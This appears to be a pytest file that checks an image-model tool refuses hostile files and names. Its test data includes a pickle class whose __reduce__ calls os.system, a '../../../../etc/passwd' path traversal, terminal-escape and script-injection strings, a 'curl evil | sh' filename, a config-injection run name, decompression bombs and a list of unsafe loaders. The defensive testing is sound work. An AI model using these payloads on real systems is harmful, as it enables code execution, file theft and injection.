"""Files of strangers: none of them runs anything, leaves its folder, or takes more memory than it is worth."""

from __future__ import annotations

import io
import json
import os
import re
import struct
import subprocess
import threading
import tracemalloc
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import replace
from pathlib import Path, PurePath
from typing import Any

import numpy as np
import onnx
import pytest
import torch
from drawn_results import results, row
from onnx import TensorProto, helper
from PIL import Image
from tiny import TrainedRun, small_spec, write_pictures
from typer.testing import CliRunner

from tinyres import arrays
from tinyres.bench.reports import markdown, page
from tinyres.checkpoint import load_weights
from tinyres.cli import app
from tinyres.data.dataset import open_dataset
from tinyres.decode import MAX_BYTES, pixels_from_bytes, pixels_from_file
from tinyres.errors import ArtifactError, CheckpointError, DataError, ImageError, InputError
from tinyres.export.artifact import Exported
from tinyres.export.certificate import read_certificate
from tinyres.export.triton import Throughput, config_text
from tinyres.files import read_whole
from tinyres.harmless import shown_lines
from tinyres.pictures import pictures_in
from tinyres.runtime import contained
from tinyres.runtime.backends import open_runner
from tinyres.runtime.metadata import read_artifact
from tinyres.seed import weights as seed
from tinyres.spec import Preprocess

SMALL = Preprocess(image_size=16)
HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e<script>alert(1)</script>\r"


class Touch:
    """Unpickled, it makes a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"touch '{self.path}'",))


# Pickles


@pytest.mark.parametrize("old_format", [False, True])
def test_a_pth_that_runs_a_command_is_refused_and_runs_nothing(
    cli: CliRunner, tmp_path: Path, old_format: bool
) -> None:
    file, mark = tmp_path / "weights.pth", tmp_path / "it-ran"
    torch.save({"conv1.0.weight": Touch(mark)}, file, _use_new_zipfile_serialization=not old_format)
    torch.load(file, weights_only=False)
    assert mark.is_file()  # it is a working exploit
    mark.unlink()
    found = cli.invoke(app, ["import", str(file), "--runs", str(tmp_path / "runs")])
    assert found.exit_code == 2
    refused = (
        "in the form that torch.save wrote before PyTorch 1.6"
        if old_format
        else "loads safely: it names 'posix.system'"
    )
    assert refused in found.stderr
    assert not mark.exists()
    assert not (tmp_path / "runs").exists()


def test_golden_vectors_and_cached_arrays_are_never_unpickled(tmp_path: Path) -> None:
    mark, buffer = tmp_path / "it-ran", io.BytesIO()
    np.savez(buffer, pixels=np.array([Touch(mark)], dtype=object))
    with pytest.raises(ValueError, match="objects"):
        arrays.read_arrays(buffer.getvalue(), ["pixels"])
    assert not mark.exists()


def test_the_library_names_no_unsafe_reader() -> None:
    root = Path(__file__).parents[2]
    unsafe = ("allow_pickle=True", "weights_only=False", "yaml.load", "shelve", "marshal")
    for path in [file for folder in ("tinyres", "export", "bench", "embed") for file in (root / folder).rglob("*.py")]:
        text = path.read_text(encoding="utf-8")
        assert not [word for word in unsafe if word in text], path
        if "pickle.loads" in text:
            assert path.name == "cache.py"  # what the same process wrote, for its own workers


# Claims


def test_a_pth_that_claims_more_weights_than_it_holds_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "weights.pth"
    torch.save({"conv1.0.weight": torch.zeros(1).expand(10**12)}, file)  # one number, repeated
    with pytest.raises(CheckpointError, match="claims 4,000,000,000,000 bytes of weights, and is smaller"):
        seed.read_state_dict(file)


def test_a_pth_that_inflates_is_refused_before_it_does(tmp_path: Path) -> None:
    plain, packed = tmp_path / "plain.pth", tmp_path / "packed.pth"
    torch.save({"conv1.0.weight": torch.zeros(10**6)}, plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
    assert packed.stat().st_size < 20_000
    with pytest.raises(CheckpointError, match="loads safely: it is packed"):
        seed.read_state_dict(packed)


def npz(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(f"{name}.npy", content)
    return buffer.getvalue()


def npy(shape: tuple[int, ...], content: bytes = b"", kind: str = "|u1") -> bytes:
    header = repr({"descr": kind, "fortran_order": False, "shape": shape}).encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + 1) + header + b"\n" + content


def test_arrays_are_read_as_numpy_wrote_them() -> None:
    wanted = {
        "a": np.arange(24.0).reshape(2, 3, 4),
        "b": np.asfortranarray(np.arange(6).reshape(2, 3)),
        "c": np.array(7),
    }
    buffer = io.BytesIO()
    np.savez_compressed(buffer, **wanted)  # type: ignore[arg-type]
    found = arrays.read_arrays(buffer.getvalue(), wanted)
    assert all(np.array_equal(found[name], array) for name, array in wanted.items())


@pytest.mark.parametrize("shape", [(10**12,), (2**62, 4), (-1,), (3, 5)])
def test_an_array_that_claims_another_shape_than_it_holds_is_refused(shape: tuple[int, ...]) -> None:
    with pytest.raises(ValueError, match="claims the shape"):
        arrays.read_arrays(npz(pixels=npy(shape, b"1234")), ["pixels"])


def test_arrays_that_inflate_beyond_the_bound_are_refused_before_they_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(arrays, "MOST_INFLATED", 10**6)
    content = npz(pixels=npy((10**6,), bytes(10**6)))
    assert len(content) < 5000
    with pytest.raises(ValueError, match="inflates to more than 1,000,000 bytes"):
        arrays.read_arrays(content, ["pixels"])


def test_an_array_that_inflates_past_its_claim_takes_no_more_memory_than_it_claims() -> None:
    whole = npz(pixels=npy((64 << 20,), bytes(64 << 20)))
    lying = whole.replace(struct.pack("<I", (64 << 20) + len(npy((64 << 20,)))), struct.pack("<I", 100))
    assert len(lying) == len(whole) != whole.count(b"\0")
    tracemalloc.start()
    with pytest.raises((ValueError, zipfile.BadZipFile)):
        arrays.read_arrays(lying, ["pixels"])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 4 << 20


def safetensors(header: dict[str, Any], content: bytes = b"") -> bytes:
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + content


@pytest.mark.parametrize("length", [2**63 - 1, 10**9, 2**64 - 1])
def test_a_checkpoint_with_an_absurd_header_is_refused(tmp_path: Path, length: int) -> None:
    file = tmp_path / "best.safetensors"
    file.write_bytes(struct.pack("<Q", length) + b"{}")
    with pytest.raises(CheckpointError, match="is not a checkpoint"):
        load_weights(file)


def test_a_network_is_not_built_for_weights_that_do_not_fit_it(trained: TrainedRun) -> None:
    checkpoint = load_weights(trained.best)
    # 150 billion weights: building it at all would end in no memory, not in this error
    huge = replace(checkpoint, spec=replace(checkpoint.spec, blocks=(64,) * 4, widths=(4096,) * 4))
    with pytest.raises(CheckpointError, match="do not fit their own spec"):
        huge.model()


# Pictures


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def test_a_picture_bomb_is_refused_by_its_header() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", Image.DecompressionBombWarning)
        with pytest.raises(ImageError, match=r"12000x12000 pixels; valid"):
            pixels_from_bytes(png(12_000, 12_000), SMALL)
    with pytest.raises(ImageError, match="is not a readable picture"):  # Pillow's own bound
        pixels_from_bytes(png(2_000_000_000, 2), SMALL)


def test_no_picture_is_handed_to_another_program(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "EPS")  # Pillow would have Ghostscript draw it
    (tmp_path / "innocent.png").write_bytes(buffer.getvalue())

    def start(*_: object, **__: object) -> None:
        raise AssertionError("a program was started")

    monkeypatch.setattr(subprocess, "Popen", start)
    with pytest.raises(ImageError, match="no picture format that is read here"):
        pixels_from_file(tmp_path / "innocent.png", SMALL)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="this system has no endless device")
def test_a_file_without_end_is_not_read_to_it(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="too large; valid: up to 3,000,000 bytes"):
        read_whole(Path("/dev/zero"), 3_000_000)
    (tmp_path / "sparse.png").touch()
    os.truncate(tmp_path / "sparse.png", MAX_BYTES + 1)
    with pytest.raises(ImageError, match="too large"):
        pixels_from_file(tmp_path / "sparse.png", SMALL)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no pipes with names")
@pytest.mark.parametrize("count", [0, 1, 5_000_000])
def test_a_pipe_is_read_whole(count: int) -> None:
    source, sink = os.pipe()
    content = os.urandom(count)
    with subprocess.Popen(["cat"], stdin=subprocess.PIPE, stdout=sink) as process:
        os.close(sink)
        assert process.stdin is not None
        process_in, place = process.stdin, Path(f"/dev/fd/{source}")
        writer = threading.Thread(target=lambda: (process_in.write(content), process_in.close()))
        writer.start()
        assert read_whole(place, 10_000_000) == content
        writer.join()
    os.close(source)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no pipes with names")
def test_a_folder_with_an_endless_device_and_a_pipe_is_read_past_them(tmp_path: Path) -> None:
    write_pictures(tmp_path / "photos", classes=2, each=4)
    home = tmp_path / "photos" / "circle"
    (home / "endless.png").symlink_to("/dev/zero")
    os.mkfifo(home / "pipe.png")
    dataset = open_dataset(str(tmp_path / "photos"), image_size=16, cache_dir=tmp_path / "cache")
    assert sorted(PurePath(picture.name).name for picture in dataset.manifest.unreadable) == ["endless.png", "pipe.png"]
    assert all("a device or a pipe" in picture.reason for picture in dataset.manifest.unreadable)
    assert len(list(pictures_in(tmp_path / "photos"))) == 8


def zipped(path: Path, names: Iterable[str]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name in names:
            archive.writestr(name, b"x")
    return path


def test_a_zip_of_folders_in_folders_is_refused_at_once(tmp_path: Path) -> None:
    deep = zipped(tmp_path / "deep.zip", ["a/" * 16_000 + name for name in ("1.png", "2.png")])
    with pytest.raises(DataError, match="holds folders in 16,000 folders; valid: 32"):
        open_dataset(str(deep), image_size=16, cache_dir=tmp_path / "cache")


def test_a_zip_whose_names_share_a_member_is_refused(tmp_path: Path) -> None:
    path = zipped(tmp_path / "shared.zip", ["a/1.png", "b/1.png"])
    content = path.read_bytes()
    second = content.rindex(b"b/1.png") - 4  # where the directory says that the second member begins
    path.write_bytes(content[:second] + bytes(4) + content[second + 4 :])
    with pytest.raises(DataError, match="several names lead to one member"):
        open_dataset(str(path), image_size=16, cache_dir=tmp_path / "cache")


# Graphs


def changed(exported: Exported, tmp_path: Path, change: Callable[[onnx.ModelProto], None]) -> Path:
    model = onnx.load(exported.path)
    change(model)
    path = tmp_path / "changed.onnx"
    path.write_bytes(model.SerializeToString())
    return path


def weights_outside(model: onnx.ModelProto) -> None:
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="../../../../etc/passwd")


def operation(kind: str, domain: str = "", **attributes: Any) -> Callable[[onnx.ModelProto], None]:
    def add(model: onnx.ModelProto) -> None:
        model.graph.node.append(helper.make_node(kind, ["x"], ["y"], domain=domain, **attributes))

    return add


BODY = helper.make_graph([], "body", [], [])
TENSOR = helper.make_tensor("t", TensorProto.INT64, [1], [10**12])


def a_huge_padding(model: onnx.ModelProto) -> None:
    (node, *_) = (node for node in model.graph.node if node.op_type == "Conv")
    for attribute in node.attribute:
        if attribute.name == "pads":
            attribute.ints[:] = [100_000] * 4


def a_function(model: onnx.ModelProto) -> None:
    model.functions.append(helper.make_function("x", "Relu", [], [], [], []))


def a_training_graph(model: onnx.ModelProto) -> None:
    model.training_info.add().algorithm.CopyFrom(BODY)


def a_circle(model: onnx.ModelProto) -> None:
    model.graph.node[1].input.append(model.graph.node[1].output[0])


def after_the_last(model: onnx.ModelProto, kind: str, *inputs: str, **attributes: Any) -> None:
    model.graph.node.append(helper.make_node(kind, inputs, ["more"], **attributes))


def weight(model: onnx.ModelProto, name: str, *dims: int) -> None:
    model.graph.initializer.append(onnx.numpy_helper.from_array(np.zeros(dims, dtype=np.float32), name))


def an_outer_sum_of_weights(model: onnx.ModelProto) -> None:
    weight(model, "a", 20_000, 1)
    weight(model, "b", 1, 20_000)
    after_the_last(model, "Add", "a", "b")


def an_outer_sum_with_the_picture(model: onnx.ModelProto) -> None:
    weight(model, "a", 20_000, 1, 1, 1)
    after_the_last(model, "Add", model.graph.node[0].output[0], "a")


def a_wide_layer(model: onnx.ModelProto) -> None:
    weight(model, "a", 100_000, 3, 1, 1)
    after_the_last(model, "Conv", "preprocess.normalized", "a")


def many_layers(model: onnx.ModelProto) -> None:
    for number in range(500):
        model.graph.node.append(helper.make_node("Relu", ["relu"], [f"more{number}"]))


def an_order_that_does_not_fit(model: onnx.ModelProto) -> None:
    after_the_last(model, "Transpose", "relu", perm=[0, 1, 2])


def another_input(model: onnx.ModelProto) -> None:
    model.graph.input.append(helper.make_tensor_value_info("second", TensorProto.FLOAT, [10**9]))


def weights_left_out(model: onnx.ModelProto) -> None:
    (entry,) = model.metadata_props
    facts = json.loads(entry.value)
    facts["spec"] |= {"widths": [4096, 4096]}
    entry.value = json.dumps(facts)


def too_many_dims(model: onnx.ModelProto) -> None:
    model.graph.initializer[0].dims[:] = [2**62] * 200_000


def a_huge_weight(model: onnx.ModelProto) -> None:
    model.graph.initializer[0].dims[:] = [10**6, 10**6]


def a_negative_weight(model: onnx.ModelProto) -> None:
    tensor = model.graph.initializer[0]
    tensor.dims[0], tensor.dims[1] = -tensor.dims[0], -tensor.dims[1]


def two_outputs_of_a_name(model: onnx.ModelProto) -> None:
    model.graph.node[1].output[0] = model.graph.node[0].output[0]


def a_sparse_weight(model: onnx.ModelProto) -> None:
    model.graph.sparse_initializer.add().dims.append(10**12)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (weights_outside, "a weight that lies outside the file"),
        (a_sparse_weight, "a sparse one"),
        (a_circle, "not in the order of its inputs"),
        (two_outputs_of_a_name, "not in the order of its inputs"),
        (a_huge_weight, "whose shape is not that of its numbers"),
        (too_many_dims, "whose shape is not that of its numbers"),
        (an_outer_sum_of_weights, "an operation on weights alone"),
        (an_outer_sum_with_the_picture, "a layer of 15,360,000 numbers"),
        (a_wide_layer, "a layer of 25,600,000 numbers"),
        (many_layers, "more than 160 operations"),
        (an_order_that_does_not_fit, "the operation 'Transpose' on shapes that it does not take"),
        (another_input, "another input than image"),
        (weights_left_out, "fewer weights than its network has"),
        (a_negative_weight, "whose shape is not that of its numbers"),
        (operation("Loop", body=BODY), "the operation 'Loop'"),
        (operation("ConstantOfShape", value=TENSOR), "the operation 'ConstantOfShape'"),
        (operation("Relu", body=BODY), "a graph or a tensor within an operation"),
        (operation("Relu", value=TENSOR), "a graph or a tensor within an operation"),
        (operation("EPContext", "com.microsoft"), "the domain 'com.microsoft'"),
        (operation("Relu", "com.microsoft"), "the domain 'com.microsoft'"),
        (a_huge_padding, "the setting 'pads' of 100000"),
        (a_function, "functions, training, or not one graph"),
        (a_training_graph, "functions, training, or not one graph"),
    ],
)
@pytest.mark.parametrize("backend", ["onnxruntime-cpu", "openvino"])
def test_a_graph_that_could_do_more_than_classify_reaches_no_backend(
    exported: Exported, tmp_path: Path, change: Callable[[onnx.ModelProto], None], said: str, backend: str
) -> None:
    path = changed(exported, tmp_path, change)
    with pytest.raises(ArtifactError, match="holds what no artifact does: ") as caught:
        open_runner(path, backend=backend)
    assert said in str(caught.value)


@pytest.mark.parametrize("change", [weights_outside, operation("Loop", body=BODY)])
def test_it_is_refused_by_info_and_predict_as_well(
    cli: CliRunner, exported: Exported, tmp_path: Path, change: Callable[[onnx.ModelProto], None]
) -> None:
    path = changed(exported, tmp_path, change)
    for words in (["info", str(path)], ["predict", str(path), "--model", str(path)], ["verify", str(path)]):
        assert cli.invoke(app, words).exit_code == 2


def test_two_graphs_in_one_file_are_refused(exported: Exported, tmp_path: Path) -> None:
    model = onnx.ModelProto()
    operation("Loop", body=BODY)(model)
    path = tmp_path / "two.onnx"
    path.write_bytes(exported.path.read_bytes() + model.SerializeToString())  # protobuf joins them
    with pytest.raises(ArtifactError, match="not one graph"):
        read_artifact(path)


def test_the_numbers_of_fields_are_those_of_the_onnx_package() -> None:
    def number(message: Any, name: str) -> int:
        return int(message.DESCRIPTOR.fields_by_name[name].number)

    model, graph, node, attribute = onnx.ModelProto, onnx.GraphProto, onnx.NodeProto, onnx.AttributeProto
    tensor, value = onnx.TensorProto, onnx.ValueInfoProto
    for message, names in {
        model: {"graph": contained.MODEL_GRAPH, "training_info": contained.MODEL_TRAINING},
        graph: {"node": contained.GRAPH_NODE, "initializer": contained.GRAPH_INITIALIZER},
        node: {"op_type": contained.NODE_OPERATION, "attribute": contained.NODE_ATTRIBUTE},
        tensor: {"dims": contained.TENSOR_DIMS, "data_type": contained.TENSOR_TYPE, "name": contained.TENSOR_NAME},
    }.items():
        assert {name: number(message, name) for name in names} == names
    assert number(model, "functions") == contained.MODEL_FUNCTIONS
    assert number(graph, "input") == contained.GRAPH_INPUT
    assert number(graph, "sparse_initializer") == contained.GRAPH_SPARSE
    assert [number(node, name) for name in ("input", "output", "domain")] == [
        contained.NODE_INPUT,
        contained.NODE_OUTPUT,
        contained.NODE_DOMAIN,
    ]
    assert [number(tensor, name) for name in ("raw_data", "external_data")] == [
        contained.TENSOR_RAW,
        contained.TENSOR_EXTERNAL,
    ]
    assert number(value, "name") == contained.VALUE_NAME
    assert number(attribute, "name") == contained.ATTRIBUTE_NAME
    assert {number(attribute, name) for name in ("i", "ints")} == contained.ATTRIBUTE_INTEGERS
    nested = ("t", "g", "tensors", "graphs", "sparse_tensor", "sparse_tensors")
    assert {number(attribute, name) for name in nested} == contained.ATTRIBUTE_TENSORS_AND_GRAPHS
    types = {"FLOAT": 4, "UINT8": 1, "INT8": 1, "INT32": 4, "INT64": 8, "FLOAT16": 2, "BFLOAT16": 2}
    assert {tensor.DataType.Value(name): size for name, size in types.items()} == contained.BYTES_OF
    # Whatever else of a graph could hold nodes or weights: a new field of a newer onnx must be thought about.
    assert set(graph.DESCRIPTOR.fields_by_name) == {
        "node", "name", "initializer", "sparse_initializer", "doc_string", "input", "output", "value_info",
        "quantization_annotation", "metadata_props",
    }  # fmt: skip


# What is shown


def test_a_terminal_gets_nothing_to_act_on() -> None:
    shown = shown_lines(HOSTILE + "\tfine\n")
    assert shown == "\\u001b]0;owned\\u0007\\u001b[2J\\u009b31m\\u202e<script>alert(1)</script>\\u000d\tfine\n"
    assert json.loads(shown_lines(json.dumps({"name": HOSTILE}, ensure_ascii=False))) == {"name": HOSTILE}


@pytest.mark.parametrize("form", [[], ["--json"]])
def test_names_in_an_artifact_are_shown_harmless(
    cli: CliRunner, exported: Exported, tmp_path: Path, form: list[str]
) -> None:
    def rename(model: onnx.ModelProto) -> None:
        (entry,) = model.metadata_props
        facts = json.loads(entry.value)
        facts["run"] = HOSTILE
        facts["spec"]["class_names"] = [HOSTILE + str(index) for index in range(3)]
        entry.value = json.dumps(facts)

    path = changed(exported, tmp_path, rename)
    picture = tmp_path / f"{HOSTILE.replace('/', '')}.png"
    picture.write_bytes(png(8, 8))
    for words in (["info", str(path)], ["predict", str(picture), "--model", str(path)], ["predict", str(picture)]):
        found = cli.invoke(app, [*words, *form])
        assert not set(found.stdout + found.stderr) & set("\x1b\x07\x9b\r\u202e")


def test_an_error_is_one_line_whatever_a_file_is_called(cli: CliRunner, tmp_path: Path) -> None:
    found = cli.invoke(app, ["info", str(tmp_path / "x\nhint: curl evil | sh")])
    assert found.exit_code == 2
    assert found.stderr.splitlines()[-1].startswith("error: there is nothing at")


def test_a_report_of_hostile_names_holds_no_tag_of_theirs() -> None:
    drawn = results(row("a", p50_ms=2), row("b", p50_ms=1))
    rows = tuple(replace(known, name=HOSTILE + known.name) for known in drawn.rows)
    environment = replace(drawn.environment, cpu=HOSTILE, gpu=HOSTILE)
    hostile = replace(
        drawn, run=HOSTILE, command=HOSTILE, rows=rows, baseline=rows[0].name, environment=environment, created=HOSTILE
    )
    text = page.page(hostile)
    assert "&lt;script&gt;" in text
    assert "<script" not in text
    assert "default-src 'none'" in text
    prose = re.sub(r"`[^`]*`", "", markdown.markdown(hostile))  # in code a tag is text
    assert not re.search(r"(?<!\\)<script", prose)


# What is written for other programs


def test_a_run_name_cannot_add_a_line_to_tritons_config(exported: Exported) -> None:
    certificate = replace(read_certificate(exported.path), run='x\nbackend: "python"\u2028parameters')
    text = config_text("x", small_spec(), certificate, Throughput({1: 1.0}, "here"))
    assert text.startswith('# fp32.onnx of run x backend: "python" parameters, proven')
    assert text.count("backend:") == 2
    assert text.splitlines()[1] == 'name: "x"'
